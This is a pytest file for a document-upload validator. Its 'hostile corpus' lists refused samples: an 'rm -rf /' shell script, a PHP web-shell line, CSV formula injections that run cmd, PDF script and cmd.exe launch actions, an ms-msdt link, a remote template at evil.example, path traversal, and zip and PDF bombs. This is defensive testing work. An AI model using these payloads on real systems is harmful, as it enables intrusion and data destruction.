"""Which files are accepted: by their ending and by their content, under a cleaned name, with size,
checksum and type of our own finding. The corpus of hostile uploads is G15 of the security tests.
"""

from __future__ import annotations

import hashlib
import io
import random
import zipfile
import zlib
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from members.access.uploads import KINDS, Accepted, Refused, accept, human_size
from members.downloads.paper import Paragraph, Sheet, write_pdf, write_spreadsheet, write_word

LIMIT = 1_000_000
WORD = write_word("A guide", [Paragraph("Some words.")])
EXCEL = write_spreadsheet("A form", [Sheet("One", widths=(10,), rows=[("a", 1)])])
PDF = write_pdf("A list", [Paragraph("Some words.")])
TYPES = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def check(content: bytes, name: str, limit: int = LIMIT) -> Accepted:
    return accept(io.BytesIO(content), name, limit=limit)


def refused(content: bytes, name: str, limit: int = LIMIT) -> str:
    with pytest.raises(Refused) as raised:
        check(content, name, limit)
    return str(raised.value)


def repacked(
    package: bytes,
    *,
    add: dict[str, bytes] | None = None,
    change: Callable[[str, bytes], bytes] = lambda name, content: content,
    drop: str = "",
) -> bytes:
    """An Office file with other parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            if name != drop:
                new.writestr(name, change(name, old.read(name)))
        for name, content in (add or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def with_relation(package: bytes, part: str, relation: str) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name != part:
            return content
        return content.replace(b"</Relationships>", relation.encode() + b"</Relationships>")

    return repacked(package, change=change)


def slides() -> bytes:
    """The least that is a presentation to us."""
    out = io.BytesIO()
    kind = f"{TYPES}.presentationml.presentation.main+xml"
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="x"><Override PartName="/ppt/p.xml" ContentType="{kind}"/></Types>',
        )
        archive.writestr("ppt/p.xml", "<p/>")
    return out.getvalue()


def pdf_with(insert: bytes) -> bytes:
    return PDF.replace(b"/Type /Catalog", b"/Type /Catalog " + insert)


def object_stream(inside: bytes, *, head: bytes = b"<< /Type /ObjStm /N 1 /First 4 ") -> bytes:
    packed = zlib.compress(b"7 0 " + inside)
    dictionary = head + b"/Filter /FlateDecode /Length %d >>" % len(packed)
    extra = b"9 0 obj\n" + dictionary + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return PDF.replace(b"xref\n", extra + b"xref\n", 1)


# Accepted -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "kind", "content_type"),
    [
        (PDF, "list.pdf", "PDF", "application/pdf"),
        (WORD, "guide.docx", "Document", f"{TYPES}.wordprocessingml.document"),
        (EXCEL, "form.xlsx", "Spreadsheet", f"{TYPES}.spreadsheetml.sheet"),
        (slides(), "talk.pptx", "Slides", f"{TYPES}.presentationml.presentation"),
        (b"a,b\r\n1,-2\r\n", "t.csv", "Table", "text/csv; charset=utf-8"),
        ("Grüße\n".encode(), "note.txt", "Plain text", "text/plain; charset=utf-8"),
        (b"\xef\xbb\xbfa;b\n", "bom.CSV", "Table", "text/csv; charset=utf-8"),
    ],
)
def test_plain_file_is_accepted_with_our_own_findings(
    content: bytes, name: str, kind: str, content_type: str
) -> None:
    found = check(content, name)
    assert (found.filename, found.kind.name) == (name, kind)
    assert found.kind.content_type == content_type
    assert found.size == len(content)
    assert found.sha256 == hashlib.sha256(content).hexdigest()


def test_file_is_left_rewound() -> None:
    file = io.BytesIO(WORD)
    file.seek(5)
    accept(file, "a.docx", limit=LIMIT)
    assert file.tell() == 0


def test_every_kind_is_tried_above() -> None:
    assert set(KINDS) == {"pdf", "docx", "xlsx", "pptx", "csv", "txt"}


@pytest.mark.parametrize(
    "table",
    [
        b"name,change\nAHT,-12\nFCR,+3.5\n",
        b"task,how\n- greet,ask (again)\n+ close,say it\n",
        b"a,b\n'=1+1,quoted by our own export\n",
        b"phone\n+61 3 5550 0100\n",
        b"mail\nsam@bilby.example\n",
    ],
)
def test_numbers_and_list_marks_in_tables_are_not_formulae(table: bytes) -> None:
    assert check(table, "t.csv").kind.name == "Table"


def test_packed_objects_of_a_plain_pdf_are_accepted() -> None:
    assert check(object_stream(b"<< /Type /Font >>"), "a.pdf").kind.name == "PDF"


def test_ordinary_links_in_office_files_are_accepted() -> None:
    link = (
        f'<Relationship Id="h1" Type="{RELATIONS}/hyperlink" '
        'Target="https://acxpa.example/" TargetMode="External"/>'
    )
    assert check(with_relation(WORD, "word/_rels/document.xml.rels", link), "a.docx")


def test_workbook_behind_a_chart_is_accepted() -> None:
    assert check(repacked(WORD, add={"word/embeddings/Workbook1.xlsx": EXCEL}), "a.docx")


# The hostile corpus (G15) -------------------------------------------------------------------

SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
EXTERNAL = f'<Relationship Id="x1" Type="{RELATIONS}/%s" Target="%s" TargetMode="External"/>'

HOSTILE = {
    "program": (b"MZ\x90\x00\x03" + bytes(60), "setup.exe", "not accepted"),
    "program as text": (b"MZ\x90\x00\x03" + bytes(60), "setup.txt", "not text|not plain text"),
    "program as pdf": (b"MZ\x90\x00\x03" + bytes(60), "setup.pdf", "not a PDF"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "run.txt", "not plain text"),
    "web page": (b"<html><script>1</script></html>", "page.html", "not accepted"),
    "web page as text": (b" \n<!DOCTYPE html><p>", "page.txt", "not plain text"),
    "web page as table": (b"<script>alert(1)</script>,b\n", "page.csv", "not plain text"),
    "picture that runs": (b"<svg onload='alert(1)'/>", "logo.svg", "not accepted"),
    "picture that runs, as text": (b"<?xml version='1.0'?><svg/>", "l.txt", "not plain text"),
    "php": (b"<?php system($_GET['c']);", "x.php", "not accepted"),
    "double ending": (PDF, "report.pdf.exe", "not accepted"),
    "direction of writing turned": (PDF, "report\u202efdp.exe", "not accepted"),
    "nul in the name": (PDF, "report.pdf\x00.exe", "not accepted"),
    "no ending": (PDF, "report", "needs a name"),
    "only an ending": (PDF, ".pdf", "needs a name"),
    "archive": (repacked(WORD), "stuff.zip", "Archives"),
    "archive as word": (repacked(WORD, drop="[Content_Types].xml"), "a.docx", "Archives"),
    "macro file": (WORD, "a.docm", "macros"),
    "old format": (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "a.doc", "old program"),
    "old format renamed": (
        bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
        "a.docx",
        "password|old format",
    ),
    "macros inside": (
        repacked(WORD, add={"word/vbaProject.bin": b"x"}),
        "a.docx",
        "macros",
    ),
    "macros under another name": (
        repacked(
            WORD,
            change=lambda name, content: content.replace(
                b"</Types>",
                b'<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.'
                b'vbaProject"/></Types>',
            ),
        ),
        "a.docx",
        "macros",
    ),
    "macro type": (
        repacked(
            WORD,
            change=lambda name, content: content.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
        ),
        "a.docx",
        "macros",
    ),
    "excel 4 macros": (
        repacked(EXCEL, add={"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "a.xlsx",
        "macros",
    ),
    "activex": (repacked(WORD, add={"word/activeX/activeX1.xml": b"<x/>"}), "a.docx", "controls"),
    "ole object": (
        repacked(WORD, add={"word/embeddings/oleObject1.bin": b"x"}),
        "a.docx",
        "another program",
    ),
    "program inside": (
        repacked(WORD, add={"word/embeddings/run.exe": b"MZ"}),
        "a.docx",
        "another file inside",
    ),
    "macros in a file inside": (
        repacked(
            WORD,
            add={"word/embeddings/b.xlsx": repacked(EXCEL, add={"xl/vbaProject.bin": b"x"})},
        ),
        "a.docx",
        "macros",
    ),
    "template from elsewhere": (
        with_relation(
            WORD,
            "word/_rels/document.xml.rels",
            EXTERNAL % ("attachedTemplate", "https://evil.example/t.dotm"),
        ),
        "a.docx",
        "from elsewhere",
    ),
    "link that starts a program": (
        with_relation(
            WORD,
            "word/_rels/document.xml.rels",
            EXTERNAL % ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ),
        "a.docx",
        "starts a program",
    ),
    "web page inside": (
        with_relation(
            WORD,
            "word/_rels/document.xml.rels",
            f'<Relationship Id="x1" Type="{RELATIONS}/aFChunk" Target="/word/a.mht"/>',
        ),
        "a.docx",
        "web page inside",
    ),
    "excel as word": (EXCEL, "a.docx", "not a .docx"),
    "way out of the folder": (
        repacked(WORD, add={"../../evil.xml": b"x"}),
        "a.docx",
        "not put together",
    ),
    "entities": (
        repacked(
            WORD,
            change=lambda name, content: content.replace(
                b"<Types", b'<!DOCTYPE x [<!ENTITY a "b">]><Types'
            ),
        ),
        "a.docx",
        "not put together",
    ),
    "cut off": (WORD[: len(WORD) // 2], "a.docx", "damaged"),
    "pdf with a script": (pdf_with(SCRIPT), "a.pdf", "a script"),
    "pdf with an escaped script": (
        pdf_with(SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")),
        "a.pdf",
        "a script",
    ),
    "pdf with a packed script": (object_stream(b"<< /S /JavaScript >>"), "a.pdf", "a script"),
    "pdf with a packed script without a type": (
        object_stream(b"<< /S /JavaScript >>", head=b"<< /N 1 /First 4 "),
        "a.pdf",
        "a script",
    ),
    "pdf packed in a way of its own": (
        PDF.replace(
            b"xref\n",
            b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode >>\nstream\n"
            b"\x80\x0b\nendstream\nendobj\nxref\n",
            1,
        ),
        "a.pdf",
        "cannot look into",
    ),
    "pdf that starts a program": (
        pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "a.pdf",
        "start a program",
    ),
    "pdf with a file inside": (
        pdf_with(b"/Names << /EmbeddedFiles 8 0 R >>"),
        "a.pdf",
        "another file inside",
    ),
    "locked pdf": (PDF.replace(b"/Size", b"/Encrypt 9 0 R /Size"), "a.pdf", "a lock"),
    "pdf behind something": (b"GIF89a" + PDF, "a.pdf", "not a PDF"),
    "pdf and archive at once": (PDF + WORD + b"%%EOF", "a.pdf", "at the same time"),
    "pdf cut off": (PDF[:-20], "a.pdf", "end of this PDF"),
    "formula": (b'a,b\n=HYPERLINK("https://evil.example"),1\n', "a.csv", "formula"),
    "formula that runs": (b"a\n=cmd|' /C calc'!A0\n", "a.csv", "formula"),
    "formula after a minus": (b"a\n-2+3+cmd|' /C calc'!A0\n", "a.csv", "formula"),
    "formula after a plus": (b"a\n+WEBSERVICE (B1)\n", "a.csv", "formula"),
    "formula behind a semicolon": (b"a;b\n1;=1+1\n", "a.csv", "formula"),
    "formula behind a tab": (b"a\tb\n1\t@SUM(A1)\n", "a.csv", "formula"),
    "nul in a text": (b"abc\x00def", "a.txt", "no text has"),
    "escape codes": (b"abc\x1b[2Jdef", "a.txt", "no text has"),
    "not utf-8": ("Zoë".encode("cp1252"), "a.txt", "UTF-8"),
    "utf-16": ("a,b".encode("utf-16"), "a.csv", "UTF-8"),
    "half a surrogate pair": (b"a\xed\xa0\x80b", "a.txt", "UTF-8"),
    "blank": (b" \n\t\n", "a.txt", "nothing in this file"),
    "empty": (b"", "a.pdf", "empty"),
    "too large": (b"x" * (LIMIT + 1), "a.txt", "limit is 1 MB"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_upload_is_refused_with_a_reason(name: str) -> None:
    content, filename, reason = HOSTILE[name]
    message = refused(content, filename)
    assert any(part in message for part in reason.split("|")), message
    assert message.endswith(".")


def test_corpus_has_what_the_security_tests_ask_for() -> None:
    assert len(HOSTILE) >= 12


def test_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(WORD)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        with new.open("word/media/a.bin", "w", force_zip64=True) as part:
            part.write(b"x")
    lying = bytearray(out.getvalue())
    # The directory promises half a gigabyte and more for the one byte.
    place = lying.rindex(b"word/media/a.bin") - 46
    assert lying[place : place + 4] == b"PK\x01\x02"
    lying[place + 24 : place + 28] = (600_000_000).to_bytes(4, "little")
    assert "unpacks to far more" in refused(bytes(lying), "a.docx")


def test_pdf_bomb_is_refused_before_it_fills_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("members.access.uploads.pdf._MOST_UNPACKED", 1_000_000)
    assert check(object_stream(b" " * 900_000), "a.pdf")
    bomb = object_stream(b" " * 1_100_000)
    assert "unpacks to far more" in refused(bomb, "a.pdf")


def test_file_inside_a_file_inside_a_file_is_refused() -> None:
    inner = EXCEL
    for _ in range(3):
        inner = repacked(EXCEL, add={"xl/embeddings/b.xlsx": inner})
    assert "another file inside" in refused(inner, "a.xlsx")


def test_table_with_an_endless_cell_is_refused() -> None:
    assert "cannot be read as a table" in refused(b'a\n"' + b"x" * 200_000, "a.csv")


@pytest.mark.parametrize("size", [LIMIT - 1, LIMIT])
def test_file_up_to_the_limit_is_accepted(size: int) -> None:
    assert check(b"x" * size, "a.txt").size == size


# Names --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/roster.txt", "roster.txt"),
        ("C:\\Users\\sam\\roster.txt", "roster.txt"),
        ("ros\r\nter.txt", "ros ter.txt"),
        ("ro\x00st\x1ber.txt", "roster.txt"),
        ("ros\u200bter\ud800.txt", "roster.txt"),
        ("  .roster.txt. ", "roster.txt"),
        ('a<b>:"c|?*.txt', "a-b-c-.txt"),
        ("Cafe\u0301.txt", "Café.txt"),
        ("名簿.TXT", "名簿.TXT"),
        ("a" * 300 + ".txt", "a" * 146 + ".txt"),
    ],
)
def test_name_is_cleaned(sent: str, kept: str) -> None:
    assert check(b"words", sent).filename == kept


@given(st.text(max_size=400), st.sampled_from([*KINDS, "exe", ""]))
def test_cleaned_name_can_do_no_harm(stem: str, ending: str) -> None:
    try:
        name = check(b"a,b\n", f"{stem}.{ending}").filename
    except Refused:
        return
    assert 0 < len(name) <= 150
    assert name.isprintable() or " " in name
    assert not set(name) & set('/\\<>:"|?*\x00\r\n')
    assert not name.startswith(".")
    assert name.rpartition(".")[2].lower() in KINDS


# Anything at all ----------------------------------------------------------------------------


@settings(deadline=None)
@given(st.binary(max_size=400), st.sampled_from(list(KINDS)))
def test_any_bytes_are_accepted_or_refused_and_nothing_else(content: bytes, ending: str) -> None:
    prefix = {"pdf": b"%PDF-1.4\n", "docx": b"PK\x03\x04", "xlsx": b"PK\x03\x04"}.get(ending, b"")
    try:
        check(prefix + content, f"a.{ending}")
    except Refused:
        return


@settings(deadline=None)
@given(
    st.sampled_from([(WORD, "docx"), (EXCEL, "xlsx"), (PDF, "pdf")]),
    st.integers(0, 2**32),
    st.integers(1, 12),
)
def test_damaged_files_are_accepted_or_refused_and_nothing_else(
    sample: tuple[bytes, str], seed: int, times: int
) -> None:
    chance = random.Random(seed)
    damaged = bytearray(sample[0])
    for _ in range(times):
        damaged[chance.randrange(len(damaged))] = chance.randrange(256)
    try:
        check(bytes(damaged), f"a.{sample[1]}")
    except Refused:
        return


@pytest.mark.parametrize(
    ("size", "words"),
    [
        (1, "1 byte"),
        (999, "999 bytes"),
        (1000, "1 kB"),
        (1001, "2 kB"),
        (84_000, "84 kB"),
        (998_001, "999 kB"),
        (999_001, "1 MB"),
        (2_400_000, "2.4 MB"),
        (2_400_001, "2.5 MB"),
        (50_000_000, "50 MB"),
        (50_000_001, "50.1 MB"),
    ],
)
def test_sizes_as_people_say_them(size: int, words: str) -> None:
    assert human_size(size) == words
